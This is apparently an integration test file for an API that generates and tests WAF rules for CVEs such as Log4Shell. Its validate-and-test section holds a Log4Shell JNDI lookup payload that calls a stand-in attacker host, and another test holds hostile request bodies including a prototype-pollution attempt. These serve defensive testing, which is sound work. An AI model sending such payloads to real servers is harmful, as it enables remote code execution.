// The API's routes over a real loopback socket with the embedded backends (PGlite store, in-process
// cache and queue): rules, generation with the cache, validate, test, jobs, errors, limits, the
// OpenAPI document and the operational endpoints.
import { readFileSync } from 'node:fs';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import type { Store } from '../../src/store/index.js';
import { baseEnv, call, openTestStore, startApi, token, waitFor, type TestApi } from '../service/support.js';
import { REPO_ROOT } from '../support/shared.js';

let store: Store;
let api: TestApi;
let auth: string;

type Err = { error: { code: string; message: string; fields?: { path: string; message: string }[] } };

beforeAll(async () => {
  ({ store } = await openTestStore());
  api = await startApi(baseEnv({ WAFGEN_MAX_BODY_BYTES: '65536', WAFGEN_JOB_BACKOFF_MS: '10' }), { store });
  auth = await token({ scope: 'rules:read rules:generate' });
}, 60_000);

afterAll(async () => {
  await api?.close();
  await store?.close();
});

const url = (path: string) => `${api.url}${path}`;

describe('rules', () => {
  it('generates a rule, then serves it from the cache', async () => {
    const first = await call<Record<string, unknown>>(url('/v1/rules/generate'), {
      token: auth,
      body: { cveId: 'cve-2021-44228' },
    });
    expect(first.status).toBe(200);
    expect(first.body).toMatchObject({
      cveId: 'CVE-2021-44228',
      version: 1,
      passed: true,
      cache: 'miss',
      engine: expect.stringMatching(/^builtin@/),
    });
    expect((first.body.rule as { Name: string }).Name).toBe('wafgen-CVE-2021-44228');
    expect(first.headers.get('x-cache')).toBe('miss');
    const second = await call(url('/v1/rules/generate'), { token: auth, body: { cveId: 'CVE-2021-44228' } });
    expect(second.body).toMatchObject({ cache: 'hit', version: 1 });
    const forced = await call(url('/v1/rules/generate'), {
      token: auth,
      body: { cveId: 'CVE-2021-44228', options: { force: true, maxAttempts: 2 } },
    });
    // Same inputs, same rule: no new version.
    expect(forced.body).toMatchObject({ cache: 'bypass', version: 1 });
  });

  it('reads the latest rule, a version, and the version list', async () => {
    const latest = await call(url('/v1/rules/Cve-2021-44228'), { token: auth });
    expect(latest.status).toBe(200);
    expect(latest.body).toMatchObject({ cveId: 'CVE-2021-44228', version: 1, cache: 'hit' });
    const v1 = await call(url('/v1/rules/CVE-2021-44228?version=1'), { token: auth });
    expect(v1.body).toMatchObject({ version: 1, passed: true });
    const v9 = await call<Err>(url('/v1/rules/CVE-2021-44228?version=9'), { token: auth });
    expect(v9.status).toBe(404);
    expect(v9.body.error.code).toBe('not_found');
    const list = await call(url('/v1/rules/CVE-2021-44228/versions'), { token: auth });
    expect(list.body).toMatchObject({ cveId: 'CVE-2021-44228', versions: [{ version: 1, passed: true }] });
  });

  it('reads a stored rule made outside the API through the cache', async () => {
    await call(url('/v1/rules/generate'), { token: auth, body: { cveId: 'CVE-2022-22965' } });
    const rule = await store.rules.latest('CVE-2022-22965');
    expect(rule?.version).toBe(1);
    const r = await call(url('/v1/rules/CVE-2022-22965'), { token: auth });
    expect(r.body).toMatchObject({ version: 1 });
  });

  it('answers 404 for a CVE without rules and 400 for an unknown one', async () => {
    const none = await call<Err>(url('/v1/rules/CVE-2019-0001'), { token: auth });
    expect(none.status).toBe(404);
    const unknown = await call<Err>(url('/v1/rules/generate'), {
      token: auth,
      body: { cveId: 'CVE-2099-99999' },
    });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.code).toBe('invalid_request');
    expect(unknown.body.error.message).toContain('CVE-2099-99999');
  });
});

describe('bad input is a 4xx with the failing fields, never a 500', () => {
  it('names each failing field', async () => {
    const r = await call<Err>(url('/v1/rules/generate'), {
      token: auth,
      body: { cveId: 'CVE-21-1', options: { maxAttempts: 0, colour: 'red' } },
    });
    expect(r.status).toBe(400);
    expect(r.body.error.code).toBe('invalid_request');
    const paths = r.body.error.fields!.map((f) => f.path).sort();
    expect(paths).toEqual(['cveId', 'options', 'options.maxAttempts']);
  });

  it('checks CVE IDs in paths', async () => {
    const r = await call<Err>(url('/v1/rules/CVE-2021-4'), { token: auth });
    expect(r.status).toBe(400);
    expect(r.body.error.fields).toEqual([{ path: 'cveId', message: 'must be a CVE ID like CVE-2021-44228' }]);
    const q = await call<Err>(url('/v1/rules/CVE-2021-44228?version=zero'), { token: auth });
    expect(q.status).toBe(400);
    expect(q.body.error.fields?.[0]?.path).toBe('version');
  });

  it('answers malformed JSON, a wrong content type and an empty body', async () => {
    const malformed = await call<Err>(url('/v1/rules/generate'), {
      token: auth,
      raw: '{"cveId": ',
      headers: { 'content-type': 'application/json' },
    });
    expect(malformed.status).toBe(400);
    expect(malformed.body.error.code).toBe('malformed_json');
    const text = await call<Err>(url('/v1/rules/generate'), {
      token: auth,
      raw: 'cveId=CVE-2021-44228',
      headers: { 'content-type': 'text/plain' },
    });
    expect(text.status).toBe(415);
    expect(text.body.error.code).toBe('unsupported_media_type');
    const empty = await call<Err>(url('/v1/rules/generate'), { token: auth, method: 'POST' });
    expect(empty.status).toBe(400);
  });

  it('limits body size', async () => {
    const r = await call<Err>(url('/v1/rules/validate'), {
      token: auth,
      body: { document: { Name: 'x'.repeat(70_000) } },
    });
    expect(r.status).toBe(413);
    expect(r.body.error.code).toBe('payload_too_large');
    expect(r.body.error.message).toMatch(/WAFGEN limit body-bytes=65536 .*WAFGEN_MAX_BODY_BYTES/);
  });

  it('answers JSON nested thousands of levels deep 400 naming the limit on every body route', async () => {
    const deep = `{"document":${'['.repeat(5000)}${']'.repeat(5000)},"cveId":"CVE-2021-44228"}`;
    for (const path of [
      '/v1/rules/validate',
      '/v1/rules/test',
      '/v1/rules/generate',
      '/v1/jobs',
      '/webhook/vulnerability',
    ]) {
      const r = await call<Err & { error: { details?: unknown } }>(url(path), {
        token: auth,
        raw: deep,
        headers: { 'content-type': 'application/json' },
      });
      expect(r.status, path).toBe(400);
      expect(r.body.error.code).toBe('input_limit');
      expect(r.body.error.details).toEqual({ limit: 'json-depth', max: 256 });
    }
  });

  it('limits a streamed body without a Content-Length, and reads a body with a BOM', async () => {
    const big = new TextEncoder().encode(JSON.stringify({ document: { Name: 'x'.repeat(70_000) } }));
    const stream = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < big.length; i += 8192) controller.enqueue(big.subarray(i, i + 8192));
        controller.close();
      },
    });
    const r = await fetch(url('/v1/rules/validate'), {
      method: 'POST',
      headers: { authorization: `Bearer ${auth}`, 'content-type': 'application/json' },
      body: stream,
      duplex: 'half',
    } as RequestInit);
    expect(r.status).toBe(413);
    const bom = await call(url('/v1/rules/validate'), {
      token: auth,
      raw: '\uFEFF{"document":{"Name":"x"}}',
      headers: { 'content-type': 'application/json' },
    });
    expect(bom.status).toBe(200);
  });

  it('survives a battery of hostile bodies', async () => {
    const bodies = [
      'null',
      '[]',
      '"CVE-2021-44228"',
      '{"cveId":null}',
      '{"cveId":["CVE-2021-44228"]}',
      '{"cveId":"CVE-2021-44228","options":[]}',
      '{"cveId":"CVE-2021-44228","options":{"maxAttempts":"3"}}',
      '{"cveId":"CVE-2021-44228\\u0000"}',
      '{"__proto__":{"admin":true},"cveId":"x"}',
      `{"cveId":"${'9'.repeat(5000)}"}`,
      '{"cveId":"CVE-2021-44228",}',
      '\u0000\u0001',
    ];
    for (const path of ['/v1/rules/generate', '/v1/jobs', '/v1/rules/validate', '/v1/rules/test']) {
      for (const raw of bodies) {
        const r = await call<Err>(url(path), {
          token: auth,
          raw,
          headers: { 'content-type': 'application/json' },
        });
        expect(r.status, `${path} ${raw.slice(0, 40)}`).toBeGreaterThanOrEqual(400);
        expect(r.status, `${path} ${raw.slice(0, 40)}`).toBeLessThan(500);
        expect(typeof r.body.error.code).toBe('string');
      }
    }
  });

  it('answers unknown routes and methods in the same shape', async () => {
    const r = await call<Err>(url('/v2/nothing'), { token: auth });
    expect(r.status).toBe(404);
    expect(r.body.error.code).toBe('not_found');
    const m = await call<Err>(url('/v1/rules/CVE-2021-44228'), { token: auth, method: 'DELETE' });
    expect(m.status).toBe(404);
  });
});

describe('validate and test', () => {
  const rule = JSON.parse(
    readFileSync(`${REPO_ROOT}/test/fixtures/rules/log4shell-rule.json`, 'utf8'),
  ) as unknown;

  it('validates a rule document', async () => {
    const r = await call<{ valid: boolean; kind: string; wcu: number }>(url('/v1/rules/validate'), {
      token: auth,
      body: { document: rule, cveId: 'CVE-2021-44228' },
    });
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({ valid: true, kind: 'rule' });
    expect(r.body.wcu).toBeGreaterThan(0);
    const bad = await call<{ valid: boolean; findings: unknown[] }>(url('/v1/rules/validate'), {
      token: auth,
      body: { document: { Name: 'x' } },
    });
    expect(bad.body.valid).toBe(false);
    expect(bad.body.findings.length).toBeGreaterThan(0);
    const missing = await call<Err>(url('/v1/rules/validate'), { token: auth, body: {} });
    expect(missing.status).toBe(400);
    expect(missing.body.error.fields?.[0]?.path).toBe('document');
  });

  it('tests a rule against requests and their variants', async () => {
    const r = await call<{
      summary: { total: number; matched: number; mismatches: number; variants: number };
    }>(url('/v1/rules/test'), {
      token: auth,
      body: {
        document: rule,
        variants: true,
        requests: [
          {
            id: 'exploit',
            method: 'GET',
            uri: '/?x=${jndi:ldap://evil.example/a}',
            headers: [['Host', 'a.example']],
            expect: 'block',
          },
          {
            id: 'benign',
            method: 'GET',
            uri: '/index.html',
            headers: [['Host', 'a.example']],
            expect: 'allow',
          },
        ],
      },
    });
    expect(r.status).toBe(200);
    expect(r.body.summary.total).toBeGreaterThan(2);
    expect(r.body.summary.variants).toBeGreaterThan(0);
    expect(r.body.summary.matched).toBeGreaterThan(0);
  });

  it('names bad test requests and documents that are not rules', async () => {
    const r = await call<Err>(url('/v1/rules/test'), {
      token: auth,
      body: { document: rule, requests: [{ method: 'G ET', uri: '/' }] },
    });
    expect(r.status).toBe(400);
    expect(r.body.error.fields?.[0]?.path).toBe('requests.0');
    const notRule = await call<Err>(url('/v1/rules/test'), {
      token: auth,
      body: { document: [1, 2], requests: [{ method: 'GET', uri: '/' }] },
    });
    expect(notRule.status).toBe(400);
  });
});

describe('jobs on the in-process queue', () => {
  it('queues a batch, runs it, and reports status and result', async () => {
    const r = await call<{ jobs: { jobId: string; cveId: string; created: boolean; status: string }[] }>(
      url('/v1/jobs'),
      { token: auth, body: { cveIds: ['CVE-2021-41773', 'cve-2021-41773', 'CVE-2017-5638'] } },
    );
    expect(r.status).toBe(202);
    expect(r.body.jobs.map((j) => j.cveId)).toEqual(['CVE-2021-41773', 'CVE-2017-5638']);
    for (const j of r.body.jobs) {
      expect(j.jobId).toMatch(/^gen-CVE-\d{4}-\d+-builtin-/);
      const done = await waitFor(`job ${j.jobId}`, async () => {
        const s = await call<{ status: string; result?: { version: number } }>(url(`/v1/jobs/${j.jobId}`), {
          token: auth,
        });
        return s.body.status === 'succeeded' ? s.body : undefined;
      });
      expect(done.result?.version).toBe(1);
    }
    // Idempotent: the same CVE again is the same job, not a new run.
    const again = await call<{ jobs: { jobId: string; created: boolean; status: string }[] }>(
      url('/v1/jobs'),
      {
        token: auth,
        body: { cveId: 'CVE-2021-41773' },
      },
    );
    expect(again.body.jobs[0]).toMatchObject({
      jobId: r.body.jobs[0]!.jobId,
      created: false,
      status: 'succeeded',
    });
    expect(await store.rules.versions('CVE-2021-41773')).toHaveLength(1);
  });

  it('marks a job that can never work as dead at once', async () => {
    const r = await call<{ jobs: { jobId: string }[] }>(url('/v1/jobs'), {
      token: auth,
      body: { cveId: 'CVE-2099-12345' },
    });
    const job = await waitFor('dead job', async () => {
      const s = await call<{ status: string; error?: string; attempts: number }>(
        url(`/v1/jobs/${r.body.jobs[0]!.jobId}`),
        {
          token: auth,
        },
      );
      return s.body.status === 'dead' ? s.body : undefined;
    });
    expect(job.attempts).toBe(1);
    expect(job.error).toContain('CVE-2099-12345');
  });

  it('answers 404 for an unknown job and 400 for a malformed id', async () => {
    expect((await call(url('/v1/jobs/gen-nothing'), { token: auth })).status).toBe(404);
    expect((await call(url('/v1/jobs/bad%20id'), { token: auth })).status).toBe(400);
    const both = await call<Err>(url('/v1/jobs'), {
      token: auth,
      body: { cveId: 'CVE-2021-44228', cveIds: ['CVE-2021-44228'] },
    });
    expect(both.status).toBe(400);
  });
});

describe('operations', () => {
  it('serves health, readiness, metrics and a request id', async () => {
    expect((await call(url('/healthz'))).body).toEqual({ status: 'ok' });
    const ready = await call<{ status: string; checks: Record<string, { status: string }> }>(url('/readyz'));
    expect(ready.status).toBe(200);
    expect(ready.body.status).toBe('ok');
    expect(ready.body.checks.store?.status).toBe('ok');
    expect(ready.body.checks.redis?.status).toBe('disabled');
    const metrics = await fetch(url('/metrics'));
    const text = await metrics.text();
    expect(text).toContain(
      'wafgen_http_requests_total{method="POST",route="/v1/rules/generate",status="200"}',
    );
    expect(text).toContain('wafgen_cache_requests_total');
    expect(text).toContain('wafgen_queue_depth{queue="wafgen-generate"}');
    const r = await call(url('/healthz'), { headers: { 'x-request-id': 'trace-123' } });
    expect(r.headers.get('x-request-id')).toBe('trace-123');
    const bad = await call(url('/healthz'), { headers: { 'x-request-id': 'bad id\twith junk' } });
    expect(bad.headers.get('x-request-id')).toMatch(/^[0-9a-f-]{36}$/);
  });

  it('serves the OpenAPI document from the request schemas, and a reference page', async () => {
    const doc = await call<{
      openapi: string;
      paths: Record<string, Record<string, { requestBody?: unknown; security?: unknown }>>;
      components: { schemas: Record<string, { properties?: Record<string, { pattern?: string }> }> };
    }>(url('/openapi.json'));
    expect(doc.body.openapi).toBe('3.1.0');
    expect(Object.keys(doc.body.paths).sort()).toEqual(
      [
        '/readyz',
        '/v1/deployments',
        '/v1/deployments/{id}/promote',
        '/v1/deployments/{id}/rollback',
        '/v1/jobs',
        '/v1/jobs/{id}',
        '/v1/rules/generate',
        '/v1/rules/test',
        '/v1/rules/validate',
        '/v1/rules/{cveId}',
        '/v1/rules/{cveId}/versions',
        '/webhook/vulnerability',
      ].sort(),
    );
    expect(doc.body.components.schemas.GenerateRequest?.properties?.cveId?.pattern).toBe(
      '^[Cc][Vv][Ee]-\\d{4}-\\d{4,}$',
    );
    expect(doc.body.paths['/v1/rules/generate']?.post?.security).toBeDefined();
    const page = await fetch(url('/docs'));
    expect(page.status).toBe(200);
    expect(await page.text()).toContain('/openapi.json');
  });
});
